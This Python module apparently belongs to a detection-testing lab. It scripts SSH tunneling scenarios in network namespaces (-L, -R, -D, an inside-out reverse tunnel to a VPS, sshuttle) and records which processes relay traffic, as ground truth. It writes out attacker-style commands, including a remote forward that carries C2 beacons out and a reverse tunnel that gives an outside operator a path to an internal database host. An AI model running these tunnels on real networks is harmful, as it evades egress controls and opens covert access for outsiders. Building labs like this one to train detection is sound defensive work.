"""SSH-based tunnels: ssh -L, -R, -D, a reverse tunnel from inside to outside, and sshuttle.

Theory of operation. An SSH tunnel has two relaying processes, one at each end of one TCP
connection (client → server:22); which of them opens the connection that leaves the tunnel
depends on the forward's direction:

* ``-L``, ``-D`` and sshuttle: the server end relays. The sshd process serving the connection
  on the server (sshd re-executes itself for every connection, so it has an execve of its own:
  ``/usr/sbin/sshd ... -R``, same pid; for sshuttle, the ``python3 -c`` server sshd starts)
  connects to the target. Inbound leg client → server:22, outbound leg server → target: both
  are SYNs the LAN span sees in the usual direction.
* ``-R`` (and the reverse tunnel, which is ``-R`` towards the internet): the ssh *client*
  relays. Traffic enters at a listener sshd opened on the server, comes down the SSH
  connection, and the client connects to the target. The relay's inbound leg is therefore a
  connection the relay itself opened: recorded with ``client`` = the SSH server and
  ``in_port`` = 22, the server's port (the SYN goes relay → client:22, not client → relay).
  ``Relay`` has no field for that direction yet; every such relay also gets a line in
  ``truth.notes`` starting ``reverse inbound leg:``.

Pids and times come from what ran: a tool's pid is its ``Proc`` (its execve), a relaying
process the tool did not start itself (an sshd session, sshuttle's server) is the owner of the
SSH connection or of the relayed socket as ``ss -p`` shows it in that host's namespace while
the tunnel is up. A relay's window is the tunnel's: from the ssh client's start to its stop
(the session process lives exactly as long as the client's connection). A scenario returns once
its processes and everything they started are gone (``stop_all``).
"""

from __future__ import annotations

import logging
import re
import shutil
import time
from collections.abc import Callable
from typing import ClassVar

from hopguard.lab.env import Env
from hopguard.lab.net import LAB_PATH, Proc, proc_stat, settle
from hopguard.lab.scenarios.base import Scenario, register, tool_run
from hopguard.lab.sys import LabError, require_tools, run
from hopguard.lab.truth import Proxy, Relay, iso

APP = "app-07"
DB = "10.10.5.9"
C2 = "203.0.113.66"
WEB = "203.0.113.10"
VPS = ("vps", "203.0.113.77")

logger = logging.getLogger(__name__)

_OWNER = re.compile(r'\("([^"]+)",pid=(\d+),')


def socket_owners(env: Env, host: str, *filt: str) -> list[tuple[str, int]]:
    """(command, pid) of processes owning established TCP sockets matching an ``ss`` filter."""
    out = run(["ip", "netns", "exec", env.lab.hosts[host].ns, "ss", "-Htnp", "state",
               "established", *filt], check=False).stdout
    found: list[tuple[str, int]] = []
    for m in _OWNER.finditer(out):
        owner = (m[1], int(m[2]))
        if owner not in found:
            found.append(owner)
    return found


def wait_owner(env: Env, host: str, *filt: str, timeout: float = 10) -> tuple[str, int]:
    """The one process owning a socket that matches ``filt`` on ``host`` (waits for it).

    When several processes hold the socket (sshd's privilege-separation monitor and its
    session child may share it), the one whose parent is not among them is the monitor;
    the relaying child is the other one."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        owners = socket_owners(env, host, *filt)
        if len(owners) == 1:
            return owners[0]
        if owners:
            pids = {pid for _, pid in owners}
            children = [o for o in owners if _ppid(o[1]) in pids]
            if len(children) == 1:
                return children[0]
        time.sleep(0.05)
    raise LabError(f"no single process owns a socket matching {' '.join(filt)} on {host} "
                   f"(owners: {socket_owners(env, host, *filt)})")


def _ppid(pid: int) -> int | None:
    st = proc_stat(pid)
    return st[0] if st else None


def stop_all(env: Env, procs: list[Proc], *others: int) -> None:
    """Stop the tools, then wait until they, their descendants and the descendants of
    ``others`` (relaying processes they did not start: sshd sessions, sshuttle's server) are
    gone: nothing of the scenario outlives it."""
    for i, proc in enumerate(procs):
        env.lab.stop(proc, also=others if i == 0 else ())


def drive(env: Env, use: Callable[[int], object], gap: float = 1.2) -> int:
    """Call ``use(i)`` with jittered gaps for about ``env.duration`` seconds (at least once)."""
    deadline = time.monotonic() + env.duration
    n = 0
    while True:
        use(n)
        n += 1
        if time.monotonic() >= deadline or env.stop_event.is_set():
            return n
        env.stop_event.wait(gap * env.rnd.uniform(0.6, 1.4))


def ssh_session(env: Env, host: str, dest: str, *opts: str, timeout: float = 20) -> Proc:
    """An interactive-looking SSH session (a few commands) from ``host``; returns when it and
    whatever it started (a ProxyCommand) are gone."""
    proc = env.lab.run_on(host, [*env.ssh_cmd(), *opts, dest, "id; uname -sr; sleep 1"],
                          name="ssh-use", timeout=timeout)
    settle({proc.pid})
    return proc


def tunnel_cmd(env: Env, *forward: str) -> list[str]:
    """``ssh -N`` with forwards; it exits at once when a forward cannot be set up."""
    return [*env.ssh_cmd(), "-o", "ExitOnForwardFailure=yes", "-N", *forward]


def server_relay(env: Env, client: Proc, upstream: str, up_port: int, pid: int, tool: str,
                 user: str = "root") -> Relay:
    """A relay at the SSH server (app-07): inbound = the client's SSH connection to :22."""
    return Relay(relay=env.ip(APP), host=APP, client=client.host.ip, in_port=22,
                 upstream=upstream, up_port=up_port, tool=tool, kind="process", pid=pid,
                 user=user, start=iso(client.started), end=iso(client.ended or time.time()))


def client_relay(env: Env, client: Proc, server_ip: str, upstream: str, up_port: int) -> Relay:
    """A relay at the ssh client of an ``-R`` forward: inbound = its own connection to
    server_ip:22 (reverse direction, noted in truth.notes), outbound = its connect to upstream."""
    env.truth.notes.append(
        f"reverse inbound leg: relay {client.host.ip} ({client.host.name}, ssh pid "
        f"{client.pid}) receives its traffic over the SSH connection it opened to "
        f"{server_ip}:22; client/in_port name that server and its port")
    return Relay(relay=client.host.ip, host=client.host.name, client=server_ip, in_port=22,
                 upstream=upstream, up_port=up_port, tool="ssh", kind="process",
                 pid=client.pid, user=client.user, start=iso(client.started),
                 end=iso(client.ended or time.time()), in_dir="out")


@register
class SshLocalForward(Scenario):
    """ws-042: ``ssh -N -L 8022:10.10.5.9:22 root@10.10.2.7``, then SSH sessions to
    127.0.0.1:8022 that land on db-09. The relay is app-07's sshd session process (pid = owner of
    the SSH connection on app-07): in on 22 from ws-042, out to db-09:22. The tool run is the ssh
    client on ws-042."""

    name: ClassVar[str] = "ssh-local-forward"
    description: ClassVar[str] = (
        "ws-042 runs ssh -N -L 8022:10.10.5.9:22 root@app-07 and reaches db-09's sshd through "
        "app-07's sshd (T1572 protocol tunneling)")
    technique: ClassVar[str] = "T1572"

    def run(self, env: Env) -> None:
        lab = env.lab
        client = lab.spawn("ws-042", tunnel_cmd(env, "-L", f"8022:{DB}:22",
                                                f"root@{env.ip(APP)}"), name="ssh-L")
        lab.wait_port("ws-042", 8022)
        _, session = wait_owner(env, APP, "sport", "=", ":22", "dst", client.host.ip)
        drive(env, lambda _: ssh_session(env, "ws-042", "root@127.0.0.1", "-p", "8022"))
        stop_all(env, [client], session)
        env.truth.relays.append(server_relay(env, client, DB, 22, session, "sshd"))
        env.truth.tools.append(tool_run(client))
        env.truth.notes.append(
            f"the relaying process is app-07's sshd serving ws-042's connection (pid {session}, "
            "sshd's per-connection re-exec '/usr/sbin/sshd ... -R'); the tool run is the ssh "
            f"client on ws-042 (pid {client.pid})")


@register
class SshRemoteForward(Scenario):
    """ws-042: ``ssh -N -R 8443:203.0.113.66:443 root@10.10.2.7`` gives app-07 (a server that
    should have no way out) a door to the C2: a process on app-07 beacons to 127.0.0.1:8443,
    where app-07's sshd session listens; sshd sends each connection down the SSH connection and
    the ssh client on ws-042 connects to 203.0.113.66:443.

    The relay is ws-042's ssh client: inbound = the SSH connection it opened to app-07:22
    (recorded client 10.10.2.7, in_port 22; reverse direction, see the module docstring),
    outbound = its own connects to 203.0.113.66:443. app-07's sshd listener is on loopback and
    its leg into the tunnel is no new connection, so it is no Relay row (a note says so). The
    beacons on app-07 are curl runs (not recorded as tools, as in socat-relay)."""

    name: ClassVar[str] = "ssh-remote-forward"
    description: ClassVar[str] = (
        "ws-042 runs ssh -N -R 8443:203.0.113.66:443 root@app-07; app-07 beacons to its "
        "127.0.0.1:8443 and ws-042's ssh client carries it to the C2 (T1572)")
    technique: ClassVar[str] = "T1572"

    def run(self, env: Env) -> None:
        lab = env.lab
        client = lab.spawn("ws-042", tunnel_cmd(env, "-R", f"8443:{C2}:443",
                                                f"root@{env.ip(APP)}"), name="ssh-R")
        lab.wait_port(APP, 8443)  # sshd's listener on app-07's loopback: the forward is up
        _, session = wait_owner(env, APP, "sport", "=", ":22", "dst", client.host.ip)
        drive(env, lambda _: env.curl(
            APP, "https://c2.example.net:8443/beacon", "--cacert", str(env.work / "c2.crt"),
            "--resolve", "c2.example.net:8443:127.0.0.1"), gap=1.5)
        stop_all(env, [client], session)
        env.truth.relays.append(client_relay(env, client, env.ip(APP), C2, 443))
        env.truth.tools.append(tool_run(client))
        env.truth.notes.append(
            f"app-07's sshd session (pid {session}) listens on 127.0.0.1:8443 and feeds the "
            "tunnel; beacons enter there from app-07 itself (loopback, invisible to the LAN "
            "span)")


@register
class SshDynamicSocks(Scenario):
    """ws-042: ``ssh -N -D 1080 root@10.10.2.7``; SOCKS5 through 127.0.0.1:1080 to
    www.example.com:443 (curl --socks5-hostname, the name resolved on app-07) and to db-09:22
    (ssh with ``ProxyCommand ncat --proxy-type socks5``).

    The proxy is recorded where it listens: ``proxy`` 127.0.0.1, ``host`` ws-042 (whose
    loopback), port 1080, socks5, tool ssh, pid the ssh client's. No SYN to it crosses the LAN;
    its evidence is the ssh client's bind() in audit.log. app-07's sshd session relays each
    target: one Relay per upstream (203.0.113.10:443 and 10.10.5.9:22), in on 22 from ws-042,
    same pid (the session that owns the SSH connection on app-07)."""

    name: ClassVar[str] = "ssh-dynamic-socks"
    description: ClassVar[str] = (
        "ws-042 runs ssh -N -D 1080 root@app-07 and sends SOCKS5 requests through its loopback "
        "to internet HTTPS and to db-09:22; app-07's sshd connects to each (T1090, T1572)")
    technique: ClassVar[str] = "T1090"

    def run(self, env: Env) -> None:
        require_tools("ncat")
        lab = env.lab
        client = lab.spawn("ws-042", tunnel_cmd(env, "-D", "1080", f"root@{env.ip(APP)}"),
                           name="ssh-D")
        lab.wait_port("ws-042", 1080)
        _, session = wait_owner(env, APP, "sport", "=", ":22", "dst", client.host.ip)
        socks = "127.0.0.1:1080"
        proxy_cmd = f"ProxyCommand=ncat --proxy {socks} --proxy-type socks5 %h %p"

        def use(i: int) -> None:
            if i % 2 == 0:
                size = env.rnd.choice([2000, 20000, 200000])
                env.curl("ws-042", f"https://www.example.com/bytes/{size}", "--socks5-hostname",
                         socks, "--cacert", str(env.work / "web.crt"))
            else:
                ssh_session(env, "ws-042", f"root@{DB}", "-o", proxy_cmd)

        drive(env, use)
        stop_all(env, [client], session)
        end = iso(client.ended or time.time())
        env.truth.proxies.append(Proxy(
            proxy="127.0.0.1", host="ws-042", port=1080, protocol="socks5", tool="ssh",
            sanctioned=False, pid=client.pid, start=iso(client.started), end=end))
        for upstream, port in ((WEB, 443), (DB, 22)):
            env.truth.relays.append(server_relay(env, client, upstream, port, session, "sshd"))
        env.truth.tools.append(tool_run(client))
        env.truth.notes.append(
            "proxy 127.0.0.1:1080 is ws-042's loopback (ssh -D binds localhost): no LAN SYN "
            f"reaches it; app-07's sshd session (pid {session}) makes the upstream connections")


@register
class ReverseTunnel(Scenario):
    """From inside to outside: app-07 runs ``ssh -N -R 2222:10.10.5.9:22 root@203.0.113.77``
    to an internet host ``vps`` (added here, its own sshd with the lab's sshd_config). The
    operator on vps then runs SSH sessions to its own 127.0.0.1:2222 and lands on db-09.

    What happens on the wire: one outbound SSH connection app-07 → 203.0.113.77:22 (NATed by
    the router; the LAN span sees it before NAT), and for every session on vps a new connection
    app-07 → 10.10.5.9:22 made by app-07's ssh client. vps's sshd listens on its loopback and
    feeds the tunnel; nothing from vps ever connects into the LAN.

    The relay is app-07's ssh client (pid from its Proc): inbound = the SSH connection it
    opened outward (recorded client 203.0.113.77, in_port 22; reverse direction, see the
    module docstring), outbound = db-09:22. The tool runs are that ssh client; vps's sshd is
    the attacker's infrastructure and is not a tool run on a lab host of the office."""

    name: ClassVar[str] = "reverse-tunnel"
    description: ClassVar[str] = (
        "app-07 opens ssh -N -R 2222:10.10.5.9:22 to an internet VPS; the operator on the VPS "
        "reaches db-09's sshd through it (T1572, inside-out reverse tunnel)")
    technique: ClassVar[str] = "T1572"

    def run(self, env: Env) -> None:
        lab = env.lab
        name, ip = VPS
        vps = lab.add_host(name, ip)
        env.truth.hosts[name] = {"ip": ip, "side": vps.side}
        sshd = lab.spawn(name, ["/usr/sbin/sshd", "-D", "-e", "-f",
                                str(env.work / "sshd_config")], name="sshd")
        lab.wait_port(name, 22)
        client = lab.spawn(APP, tunnel_cmd(env, "-R", f"2222:{DB}:22", f"root@{ip}"),
                           name="ssh-R")
        lab.wait_port(name, 2222)
        drive(env, lambda _: ssh_session(env, name, "root@127.0.0.1", "-p", "2222"))
        stop_all(env, [client, sshd])
        env.truth.relays.append(client_relay(env, client, ip, DB, 22))
        env.truth.tools.append(tool_run(client))
        env.truth.notes.append(
            f"vps ({ip}) runs sshd (pid {sshd.pid}) that listens on 127.0.0.1:2222 for the "
            "forward; the operator's sessions start on vps's loopback")


@register
class Sshuttle(Scenario):
    """ws-051 (as root): ``sshuttle --method nft -r root@10.10.2.7 10.10.5.0/24``, then SSH
    sessions to db-09 that look direct.

    sshuttle adds an nft table on ws-051 (``inet sshuttle-ipv4-12300``: TCP to 10.10.5.0/24 is
    ``redirect to :12300``; it runs here, nftables is per network namespace, iptables' nat
    method would work too) and listens on 127.0.0.1:12300; it carries each redirected
    connection over ``ssh root@10.10.2.7``, where sshd starts sshuttle's server (``python3 -c``
    with the interpreter named by ``--python``, an execve on app-07) that connects to the
    target. So the LAN shows ws-051 → app-07:22 and
    app-07 → db-09:22 and no ws-051 → db-09 SYN while the tunnel is up — for the background
    ssh sessions ws-051 keeps making to db-09 as well (they are relayed too, which is what
    really happens; ws-051 is therefore no benign host here).

    The relay is app-07's sshuttle server (pid = owner of its socket to db-09:22): in on 22 from
    ws-051, out to 10.10.5.9:22. ws-051's redirect + loopback listener is a local transparent
    proxy (no protocol in Proxy's list fits): it is in the notes and in nft-monitor.log."""

    name: ClassVar[str] = "sshuttle"
    description: ClassVar[str] = (
        "ws-051 runs sshuttle -r root@app-07 10.10.5.0/24 (nft redirect to a local listener, "
        "carried over ssh); app-07's sshuttle server connects to db-09 (T1572)")
    technique: ClassVar[str] = "T1572"
    watch_nft: ClassVar[tuple[str, ...]] = ("ws-051",)

    def run(self, env: Env) -> None:
        require_tools("sshuttle")
        # the server's interpreter, named so it does not depend on root's shell start-up files
        python = shutil.which("python3", path=LAB_PATH)
        if python is None:
            raise LabError(f"sshuttle's server needs python3 (PATH {LAB_PATH})")
        lab = env.lab
        host = "ws-051"
        tool = lab.spawn(host, ["sshuttle", "--method", "nft", "--python", python,
                                "-e", " ".join(env.ssh_cmd()), "-r", f"root@{env.ip(APP)}",
                                "10.10.5.0/24"], name="sshuttle")
        self._wait_redirect(env, host, tool)
        relay_pid: list[int] = []

        def use(_: int) -> None:
            session = lab.spawn(host, [*env.ssh_cmd(), f"root@{DB}", "id; uname -sr; sleep 1"],
                                name="ssh-use")
            if not relay_pid:
                relay_pid.append(wait_owner(env, APP, "dst", DB, "dport", "=", ":22")[1])
            if session.popen.wait(20) != 0:
                raise LabError(f"ssh to {DB} through sshuttle failed: "
                               + (session.log.read_text()[-300:] if session.log else ""))
            session.ended = time.time()

        drive(env, use)
        # sessions on db-09 that ride the tunnel (background ones too) end with it
        riders = [pid for _, pid in socket_owners(env, "db-09", "dst", env.ip(APP))]
        stop_all(env, [tool], relay_pid[0], *riders)
        self._wait_cleanup(env, host)
        env.truth.benign_hosts = [h for h in env.truth.benign_hosts if h != host]
        env.truth.relays.append(server_relay(env, tool, DB, 22, relay_pid[0], "sshuttle"))
        env.truth.tools.append(tool_run(tool))
        env.truth.notes.append(
            f"ws-051: nft table inet sshuttle-ipv4-12300 redirects TCP to 10.10.5.0/24 to "
            f"sshuttle's 127.0.0.1:12300 (pid {tool.pid}); app-07's sshuttle server (python3, "
            f"pid {relay_pid[0]}) connects to the targets; ws-051's background ssh sessions to "
            "db-09 are relayed too while the tunnel is up")

    @staticmethod
    def _wait_redirect(env: Env, host: str, tool: Proc, timeout: float = 20) -> None:
        deadline = time.monotonic() + timeout
        ns = env.lab.hosts[host].ns
        while time.monotonic() < deadline:
            if tool.popen.poll() is not None:
                raise LabError("sshuttle exited: " + (tool.log.read_text()[-400:]
                                                     if tool.log else ""))
            rules = run(["ip", "netns", "exec", ns, "nft", "list", "ruleset"], check=False).stdout
            if "redirect to :" in rules:
                return
            time.sleep(0.1)
        raise LabError(f"sshuttle set up no redirect on {host} in {timeout} s")

    @staticmethod
    def _wait_cleanup(env: Env, host: str, timeout: float = 5) -> None:
        """sshuttle's firewall helper removes its tables after the client stops."""
        deadline = time.monotonic() + timeout
        ns = env.lab.hosts[host].ns
        while time.monotonic() < deadline:
            tables = run(["ip", "netns", "exec", ns, "nft", "list", "tables"], check=False).stdout
            if "sshuttle" not in tables:
                return
            time.sleep(0.1)
        env.truth.notes.append(f"sshuttle left its nft tables on {host} (removed with the lab)")
